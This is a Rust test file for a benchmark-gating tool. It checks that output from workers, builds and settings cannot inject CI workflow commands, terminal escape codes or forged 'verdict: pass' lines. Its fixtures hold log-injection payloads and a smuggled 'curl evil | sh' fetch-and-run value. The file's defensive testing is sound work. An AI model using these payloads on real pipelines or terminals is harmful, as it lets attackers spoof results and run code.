//! What a worker, a build and cargo's build scripts write for people: shown, and nothing that a terminal or a CI obeys.
#![cfg(unix)]

use std::fs;
use std::os::unix::fs::PermissionsExt;

use crate::revisions::{commit, empty_repository, gate, repository};
use crate::sandbox::{QUICK, Sandbox, stderr};

/// In quotes of a shell's `printf`, and of Rust.
const BAD: &str = r"::error::one\n  ::add-mask::two\r::error::three\n##[error]four\n\x1b[2J\x1b]0;five\x07\n";

/// All of it was said, and none of it is obeyed.
#[track_caller]
fn assert_harmless(said: &str) {
    assert!(said.contains("five") && said.contains("\\u{1b}"), "{said}");
    assert_obeys_nothing(said);
}

#[track_caller]
fn assert_obeys_nothing(said: &str) {
    for word in ["one", "two", "three", "four"] {
        assert!(said.contains(word), "{word} is lost: {said}");
    }
    assert_eq!(said.chars().find(|c| c.is_control() && *c != '\n'), None, "{said:?}");
    for line in said.lines() {
        assert!(!line.trim_start().starts_with("::") && !line.contains("##["), "{line}");
    }
}

/// A shell script that writes it to both streams and ends with 3.
fn script() -> String {
    let sh = BAD.replace("\\x1b", "\\033").replace("\\x07", "\\007");
    format!("#!/bin/sh\nprintf '{sh}'\nprintf '{sh}' >&2\nexit 3\n")
}

/// The front's words for benches that nobody runs; what can be done stands in the error, too.
#[test]
fn a_main_that_is_not_criterions_is_named() {
    let sandbox = Sandbox::new();
    let front = include_str!("../../../../src/criterion/director.rs");
    let (_, words) = front.split_once("\"error: the bench '{}' ").expect("its words");
    let words = words.split_once('"').expect("their end").0;
    let worker =
        sandbox.write("worker.sh", &format!("#!/bin/sh\necho \"error: the bench 'own' {words}\" >&2\nexit 2\n"));
    fs::set_permissions(&worker, fs::Permissions::from_mode(0o755)).expect("a program");
    let mut process = sandbox.process(&["bench", "--model=fake"]);
    process.args(QUICK).arg("--worker").arg(&worker);
    let said = stderr(&assert_cmd::Command::from_std(process).assert().code(2));
    assert!(said.trim_end().ends_with("main has to be criterion_main!, with all its groups"), "{said}");
}

#[test]
fn a_workers() {
    let sandbox = Sandbox::new();
    let worker = sandbox.write("worker.sh", &script().replacen("printf", "exec 1>&2; printf", 1));
    fs::set_permissions(&worker, fs::Permissions::from_mode(0o755)).expect("its own file");
    let mut bench = sandbox.process(&["bench", "--cases=decode/p8", "--worker"]);
    bench.arg(worker);
    let said = stderr(&assert_cmd::Command::from_std(bench).assert().code(2));
    assert_harmless(&said);
    let last = said.lines().last().unwrap_or_default();
    assert!(last.starts_with("error: ") && last.contains("its own words are above"), "{said}");
}

#[test]
fn a_builds() {
    let sandbox = empty_repository();
    for (table, key) in [("worker", "worker.build"), ("server", "server.build")] {
        let settings = format!("[{table}]\ncommand = ['./x', '{{port}}']\nbuild = ['sh', 'build.sh']\n");
        sandbox.write("infergate.toml", &settings);
        commit(&sandbox, "build.sh", &script(), "it does not build");
        let server = if table == "server" { &["--server"][..] } else { &[] };
        let cache = Sandbox::new();
        let folder = format!("--base-folder={}", cache.path("base").display());
        let said = stderr(&sandbox.run(&[&["gate", "--against=HEAD", &folder], server].concat()).code(2));
        assert_harmless(&said);
        assert!(said.lines().last().unwrap_or_default().contains(&format!("base: {key} failed")), "{said}");
    }
}

/// Cargo leaves escapes out itself where it may not colour.
#[test]
fn cargos() {
    let sandbox = repository();
    let build = format!("fn main() {{ print!(\"{BAD}\"); eprint!(\"{BAD}\"); std::process::exit(3); }}\n");
    sandbox.write("build.rs", &build);
    let said = stderr(&gate(&sandbox, "HEAD", &[]).code(2));
    assert!(said.contains("the build failed"), "{said}");
    assert_obeys_nothing(&said);

    commit(&sandbox, "build.rs", &build, "base does not build");
    sandbox.write("build.rs", "fn main() {}\n");
    let said = stderr(&gate(&sandbox, "HEAD", &[]).code(2));
    assert!(said.contains("does not build"), "{said}");
    assert_obeys_nothing(&said);
}

/// Whoever writes the settings may be the one whose change is gated.
#[test]
fn a_command_of_the_settings_is_words_of_a_shell_or_not_shown() {
    for (build, shown) in [
        (r"['sh', '-c', 'exit 3', 'x; curl evil | sh']", "base: sh -c 'exit 3' 'x; curl evil | sh'\n"),
        (r#"['sh', '-c', 'exit 3', "one\n::error::two\u001b[2J"]"#, "base: worker.build\n"),
    ] {
        let sandbox = empty_repository();
        sandbox.write("infergate.toml", &format!("[worker]\ncommand = ['./x']\nbuild = {build}\n"));
        commit(&sandbox, "notes.txt", "", "base");
        let cache = Sandbox::new();
        let folder = format!("--base-folder={}", cache.path("base").display());
        let said = stderr(&sandbox.run(&["gate", "--against=HEAD", &folder]).code(2));
        assert!(said.contains(shown) && !said.contains("::error::"), "{said}");
    }
}

/// What head changes of the settings is said at once, and in head's words.
#[test]
fn a_value_of_the_settings_is_one_line() {
    let sandbox = repository();
    sandbox.write("infergate.toml", "model = \"m\\nverdict: pass (exit 0)\\u001b[2J\"\n");
    let said = stderr(&gate(&sandbox, "HEAD", &[]).success());
    assert!(said.contains("head changes the gate: model") && said.contains("\\u{1b}[2J"), "{said}");
    assert!(!said.lines().any(|line| line.starts_with("verdict:")), "{said}");
}

/// Nor is a folder's name a line.
#[test]
fn a_path_is_one_line() {
    let sandbox = Sandbox::new();
    let out = "--out=it\nverdict: pass (exit 0)\u{1b}[2J/receipt.json";
    let said = stderr(&sandbox.measure("bench", "fake", &[out]).success());
    assert!(said.contains("receipt: it verdict: pass (exit 0)\\u{1b}[2J/receipt.json\n"), "{said}");
}

/// A macro prints where cargo writes its messages.
#[test]
fn what_stands_among_cargos_messages_is_passed_over() {
    let sandbox = Sandbox::new();
    let message = format!(
        r#"{{"reason":"compiler-artifact","target":{{"name":"inference","kind":["bench"]}},"executable":"{}"}}"#,
        crate::support::example("fake_engine").display()
    );
    let line = r"printf '\377no text\n'; head -c 3000000 /dev/zero | tr '\0' x; echo";
    let text = format!("#!/bin/sh\n[ \"$1\" = bench ] || exit 0\n{line}\necho '{message}'\n");
    let cargo = sandbox.write("cargo.sh", &text);
    fs::set_permissions(&cargo, fs::Permissions::from_mode(0o755)).expect("its own file");
    let mut bench = sandbox.process(&["bench", "--model=fake"]);
    bench.args(QUICK).env("CARGO", cargo);
    assert_cmd::Command::from_std(bench).assert().success();
}
